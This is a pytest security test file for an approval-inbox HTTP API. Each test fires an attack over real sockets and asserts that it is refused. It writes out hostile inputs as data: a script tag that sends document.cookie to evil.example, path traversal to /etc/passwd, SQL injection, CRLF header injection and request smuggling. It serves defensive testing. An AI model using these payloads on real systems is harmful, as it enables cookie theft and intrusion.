"""What an attacker would try, each refused, over real sockets; raw where no client would help."""

import json
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

from configs.server_settings import LimitSettings, ServerSettings
from memory.schema import audit, proposals
from tests.approval_worlds import Inbox, installation, wait
from tests.serving_app import Served, serve_app

P = "p-4k7q2m6xza"
LIMIT = 4096
SCRIPT = "</pre><script>fetch('//evil.example/'+document.cookie)</script>"


@pytest.fixture
def inbox(tmp_path: Path) -> Inbox:
    return installation(tmp_path, "refunds", "billing")


@pytest.fixture
def served(inbox: Inbox) -> Iterator[Served]:
    settings = ServerSettings(limits=LimitSettings(body_bytes=LIMIT))
    with serve_app(inbox.home, settings=settings) as server:
        yield server


def signed_in(served: Served, *roles: Any, projects: Any = None) -> httpx.Client:
    headers = served.headers("ann", roles or ("admin",), projects)
    return httpx.Client(base_url=served.url, headers=headers, timeout=30)


def raw(served: Served, request: bytes) -> bytes:
    """Bytes as no client would send them, and everything that comes back."""
    place = urlsplit(served.url)
    with socket.create_connection((place.hostname, place.port or 0), timeout=30) as wire:
        wire.sendall(request)
        wire.shutdown(socket.SHUT_WR)
        found = b""
        while part := wire.recv(65536):
            found += part
    return found


def status(answer: bytes) -> int:
    return int(answer.split(b" ", 2)[1])


HEADERS = {
    "x-content-type-options": "nosniff",
    "cache-control": "no-store",
    "content-security-policy": "default-src 'none'; frame-ancestors 'none'",
    "x-frame-options": "DENY",
}


def test_every_answer_is_data_and_never_a_page(inbox: Inbox, served: Served) -> None:
    wait(inbox)
    with signed_in(served) as ann:
        answers = [
            ann.get("/proposals"), ann.get(f"/proposals/{P}"), ann.get("/nowhere"),
            ann.post("/proposals", json={}), ann.get("/healthz"), ann.get("/openapi.json"),
            ann.post(f"/proposals/{P}/decision", content=b"x" * (LIMIT + 1)),
            ann.post(f"/proposals/{P}/ask", data={"text": "hi"}),
            httpx.get(f"{served.url}/proposals"), ann.get("/proposals", headers={"Host": "evil"}),
        ]  # fmt: skip
    assert {a.status_code for a in answers} == {200, 401, 404, 405, 413, 415, 421}
    for answer in answers:
        assert {k: answer.headers.get(k) for k in HEADERS} == HEADERS, answer.url
        assert answer.headers["content-type"] == "application/json"
        assert "access-control-allow-origin" not in answer.headers
        assert "set-cookie" not in answer.headers
        assert "server" not in answer.headers or "python" not in answer.headers["server"].lower()


def test_an_error_that_nobody_foresaw_is_told_without_its_text(
    inbox: Inbox, served: Served, monkeypatch: pytest.MonkeyPatch
) -> None:
    wait(inbox)

    def broken(*_: object) -> None:
        raise RuntimeError("the password is hunter2")

    monkeypatch.setattr("graph.server.inbox.decisions_on", broken)
    with signed_in(served) as ann:
        answer = ann.get(f"/proposals/{P}")
    assert answer.status_code == 500
    assert "hunter2" not in answer.text
    assert {k: answer.headers.get(k) for k in HEADERS} == HEADERS


def test_script_in_trace_text_stays_a_json_string(inbox: Inbox, served: Served) -> None:
    made = wait(inbox, text=f"- Say {SCRIPT} to nobody.")
    with signed_in(served) as ann:
        read = ann.get(f"/proposals/{P}")
        asked = ann.post(f"/proposals/{P}/ask", json={"text": SCRIPT})
        again = ann.get(f"/proposals/{P}", headers={"Accept": "text/html"})
    assert read.headers["content-type"] == again.headers["content-type"] == "application/json"
    assert SCRIPT in read.json()["texts"]["instructions/main.md"]
    assert asked.json()["remark"]["text"] == SCRIPT
    assert made.hash == read.json()["hash"]


@pytest.mark.parametrize(
    "kind",
    [
        "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/plain",
        "text/plain; application/json", "application/jsonp", "",
    ],
)  # fmt: skip
def test_a_form_of_a_foreign_page_decides_nothing(inbox: Inbox, served: Served, kind: str) -> None:
    made = wait(inbox)
    with signed_in(served) as ann:
        answer = ann.post(
            f"/proposals/{P}/decision", content=json.dumps({"type": "approve"}),
            headers={"Content-Type": kind, "If-Match": f'"{made.hash}"'},
        )  # fmt: skip
        simple = ann.options(
            f"/proposals/{P}/decision",
            headers={
                "Origin": "https://evil.example", "Access-Control-Request-Method": "POST",
                "Access-Control-Request-Headers": "authorization,content-type,if-match",
            },
        )  # fmt: skip
    assert answer.status_code == 415
    assert simple.status_code == 405
    assert not any(name.startswith("access-control") for name in simple.headers)
    assert inbox.decisions(P) == []


def test_a_body_that_is_too_large_is_refused_with_or_without_its_length(
    inbox: Inbox, served: Served
) -> None:
    wait(inbox)
    with signed_in(served) as ann:
        text = json.dumps({"text": "x" * LIMIT}).encode()
        declared = ann.post(
            f"/proposals/{P}/ask", content=text, headers={"Content-Type": "application/json"}
        )
        streamed = ann.post(
            f"/proposals/{P}/ask", content=iter([text[:3000], text[3000:]]),
            headers={"Content-Type": "application/json"},
        )  # fmt: skip
        below = ann.post(f"/proposals/{P}/ask", json={"text": "x" * 900})
    assert (declared.status_code, streamed.status_code, below.status_code) == (413, 413, 200)
    with inbox.looking() as ledger:
        assert len(ledger.trail.of(P)) == 1


def test_a_length_that_lies_reaches_no_route(inbox: Inbox, served: Served) -> None:
    token = served.token()
    head = f"POST /proposals/{P}/ask HTTP/1.1\r\nHost: 127.0.0.1\r\n"
    head += f"Authorization: Bearer {token}\r\nContent-Type: application/json\r\n"
    for length in ("-1", "1e3", "99999999999999999999999", "5, 6", "٣"):
        answer = raw(served, f"{head}Content-Length: {length}\r\n\r\n{{}}".encode())
        assert answer == b"" or status(answer) in (400, 413), (length, answer)
    both = f"{head}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    smuggled = raw(served, f"{both}GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode())
    assert smuggled.count(b"HTTP/1.1 200") == 0


@pytest.mark.parametrize("host", ["evil.example", "localhost.evil.example", "127.0.0.1.evil", "["])
def test_a_name_that_was_bent_to_this_machine_is_not_answered(served: Served, host: str) -> None:
    with signed_in(served) as ann:
        assert ann.get("/proposals", headers={"Host": host}).status_code in (400, 421)
        assert ann.get("/proposals", headers={"Host": "localhost:1234"}).status_code == 200


def test_the_public_name_is_answered_where_it_is_set(inbox: Inbox) -> None:
    settings = ServerSettings(host="0.0.0.0", public_url="https://tm.example.com/")  # noqa: S104
    with serve_app(inbox.home, settings=settings) as served, signed_in(served) as ann:
        for host, code in (("tm.example.com", 200), ("evil.example", 421), ("127.0.0.1", 200)):
            assert ann.get("/proposals", headers={"Host": host}).status_code == code
        # A probe asks by the machine's address.
        assert ann.get("/healthz", headers={"Host": "10.0.0.7:8765"}).status_code in (200, 404)


@pytest.mark.parametrize(
    "id_",
    [
        "..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2f", "..%5c..%5c", "p-1%00", "%F0%9F%92%A9",
        "%ff%fe", "p-1'%20OR%201=1--", "x" * 3000, "{proposal}", "%0d%0aSet-Cookie:%20a=b",
    ],
)  # fmt: skip
def test_ids_are_names_of_rows_and_nothing_else(served: Served, id_: str) -> None:
    with signed_in(served) as ann:
        for path in ("proposals", "releases", "incidents"):
            answer = ann.get(f"/{path}/{id_}")
            assert answer.status_code == 404, answer.text
            assert "set-cookie" not in answer.headers


def test_header_injection_gets_no_further_than_the_parser(served: Served) -> None:
    token = served.token()
    for injected in (
        b"X-Request-Id: a\r\n b\r\n", b"If-Match: \"a\x00b\"\r\n", b"X-Request-Id : a\r\n",
        b"X-Request-Id: a\rSet-Cookie: b=c\r\n", b"X-Request-Id: a\nSet-Cookie: b=c\r\n",
    ):  # fmt: skip
        head = b"GET /proposals HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
        head += b"Authorization: Bearer " + token.encode() + b"\r\n" + injected + b"\r\n"
        answer = raw(served, head)
        assert b"set-cookie" not in answer.lower()
        assert answer == b"" or status(answer) in (200, 400)


@pytest.mark.parametrize(
    "body",
    [
        b"", b"null", b"[]", b'"approve"', b"{", b'{"type": NaN}', b'{"type": "approve", "x": 1}',
        b'{"type": "approve", "type": ["approve"]}', b'{"type":' + b"[" * 2000 + b"]" * 2000 + b"}",
        b'{"type": ' + b"9" * 4000 + b"}", b'\xff{"type": "approve"}', b'{"message": "\\ud83d"}',
        b'{"type": "edit", "edited_action": {"args": {"text:a": "\\udc00"}}}',
        b'{"type": "edit", "edited_action": {"args": {"a": [[[{"\\ud800": 1}]]]}}}',
        b'{"type": "reject", "message": "risky: \\u0000"}',
    ],
)  # fmt: skip
def test_a_body_that_is_no_answer_decides_nothing(
    inbox: Inbox, served: Served, body: bytes
) -> None:
    made = wait(inbox)
    with signed_in(served) as ann:
        answer = ann.post(
            f"/proposals/{P}/decision", content=body,
            headers={
                "Content-Type": "application/json", "If-Match": f'"{made.hash}"',
                "Idempotency-Key": "k",
            },
        )  # fmt: skip
    assert answer.status_code in (400, 415, 422), answer.text
    assert inbox.decisions(P) == []


def test_a_replayed_decision_changes_nothing(inbox: Inbox, served: Served) -> None:
    made = wait(inbox)
    with signed_in(served) as ann:
        once = {"If-Match": f'"{made.hash}"', "Idempotency-Key": "once"}
        answers = [
            ann.post(f"/proposals/{P}/decision", json={"type": "approve"}, headers=once)
            for _ in range(3)
        ]
    assert [a.status_code for a in answers] == [200, 200, 200]
    assert [a.json()["first"] for a in answers] == [True, True, True]
    assert len({a.json()["decision"]["id"] for a in answers}) == 1
    assert len(inbox.decisions(P)) == 1


def test_a_token_of_another_project_sees_no_door(inbox: Inbox, served: Served) -> None:
    made = wait(inbox)
    with signed_in(served, "admin", projects=["billing"]) as eve:
        answers = [
            eve.get(f"/proposals/{P}"), eve.get("/proposals", params={"project": "refunds"}),
            eve.get("/proposals", params={"project": "nowhere"}),
            eve.post(
                f"/proposals/{P}/decision", json={"type": "approve"},
                headers={"If-Match": f'"{made.hash}"'},
            ),
            eve.post(f"/proposals/{P}/ask", json={"text": "hm"}),
            eve.post(f"/proposals/{P}/defer", json={"until": "2040-01-01T00:00:00Z"}),
        ]  # fmt: skip
    assert {a.status_code for a in answers} == {404}
    assert answers[1].text == answers[2].text
    assert inbox.decisions(P) == []


def test_no_answer_and_no_row_holds_the_callers_token(
    inbox: Inbox, served: Served, caplog: pytest.LogCaptureFixture
) -> None:
    made = wait(inbox)
    token = served.token()
    headers = {"Authorization": f"Bearer {token}", "If-Match": f'"{made.hash}"'}
    answer = httpx.post(
        f"{served.url}/proposals/{P}/decision", json={"type": "approve"}, headers=headers,
        timeout=30,
    )  # fmt: skip
    wrong = httpx.get(f"{served.url}/proposals/{token}", headers=headers, timeout=30)
    secret = token.split("_", 2)[2]
    assert secret not in answer.text + wrong.text + caplog.text
    with inbox.looking() as ledger:
        rows = [str(dict(row)) for row in ledger.db.find(proposals)]
        entries = [str(dict(row)) for row in ledger.db.find(audit)]
    assert not any(secret in row for row in [*rows, *entries])
